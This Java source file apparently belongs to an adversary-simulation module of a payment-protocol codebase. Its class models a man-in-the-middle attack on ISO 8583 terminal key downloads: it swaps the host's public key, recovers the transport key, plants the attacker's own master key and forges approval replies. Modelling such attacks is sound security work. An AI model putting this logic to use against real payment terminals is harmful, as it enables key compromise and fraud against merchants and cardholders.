package dev.counterfoil.adversary;

import dev.counterfoil.codec.Hex;
import dev.counterfoil.crypto.CipherKey;
import dev.counterfoil.crypto.keyblock.SealedMasterKey;
import dev.counterfoil.protocol.iso8583.IsoMessage;
import dev.counterfoil.protocol.iso8583.KeyDownload;
import dev.counterfoil.protocol.iso8583.online.OnlineDownload;
import java.util.List;
import org.jspecify.annotations.Nullable;

/**
 * The public key of an online download comes without a proof whose it is. The thief puts his own in its place, opens
 * the transport key with his private key, and answers with his own master key under it; the host hears of none of it.
 */
final class OnlineHeist implements Heist {
    private enum State {
        WAITING,
        SWAPPED,
        DELIVERED,
        OVER
    }

    private final CipherKey key;
    private State state = State.WAITING;
    private @Nullable SwappedKey swapped;

    OnlineHeist(CipherKey key) {
        this.key = key;
    }

    @Override
    public boolean fromHost(IsoMessage answer, Reach reach) {
        SwappedKey brought = state == State.WAITING ? SwappedKey.of(answer) : null;
        if (brought != null) {
            state = State.SWAPPED;
            swapped = brought;
            reach.answerTerminal(brought.in(answer));
        }
        return brought != null;
    }

    @Override
    public boolean fromTerminal(IsoMessage message, Reach reach) {
        String code = KeyDownload.step(message);
        if (state == State.SWAPPED && code.equals(OnlineDownload.TRANSPORT_KEY)) {
            return deliver(message, reach);
        } else if (state == State.DELIVERED && code.equals(OnlineDownload.STORED)) {
            state = State.OVER;
            reach.planted(key);
            reach.answerTerminal(approval(message).build());
            return true;
        }
        return false;
    }

    private boolean deliver(IsoMessage request, Reach reach) {
        CipherKey transport = swapped == null ? null : swapped.transport(request);
        if (transport == null) {
            return false;
        }
        CipherKey master = CipherKey.of(transport.kind(), key.clear());
        state = State.DELIVERED;
        String f62 = SealedMasterKey.plain(transport, master) + master.kcv();
        reach.answerTerminal(approval(request).set(62, Hex.bytes(f62)).build());
        return true;
    }

    private static IsoMessage.Builder approval(IsoMessage request) {
        return IsoMessage.answerTo(request)
                .copy(request, 11, 41, 42, 60)
                .set(12, "120000")
                .set(13, "0101")
                .set(37, "000000000000")
                .set(39, "00");
    }

    /** This one, or another one: whichever the next download lets him carry out. */
    static Heist or(OnlineHeist online, Heist other) {
        List<Heist> both = List.of(online, other);
        return new Heist() {
            @Override
            public boolean fromTerminal(IsoMessage message, Reach reach) {
                return both.stream().anyMatch(heist -> heist.fromTerminal(message, reach));
            }

            @Override
            public boolean fromHost(IsoMessage message, Reach reach) {
                return both.stream().anyMatch(heist -> heist.fromHost(message, reach));
            }
        };
    }
}
